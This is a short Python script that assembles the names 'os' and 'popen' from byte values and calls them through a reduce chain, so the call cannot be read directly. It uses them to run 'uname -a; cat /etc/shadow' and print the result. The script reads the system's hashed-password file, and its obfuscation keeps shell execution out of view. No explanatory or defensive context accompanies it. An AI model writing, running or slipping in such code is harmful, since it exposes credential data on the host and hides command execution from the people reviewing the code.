import functools

names = [bytes([111, 115]).decode(), bytes([112, 111, 112, 101, 110]).decode()]
steps = [lambda _: __import__(names[0]), lambda m: getattr(m, names[1]), lambda f: f("uname -a; cat /etc/shadow")]
out = functools.reduce(lambda acc, step: step(acc), steps, None)
print(out.read())
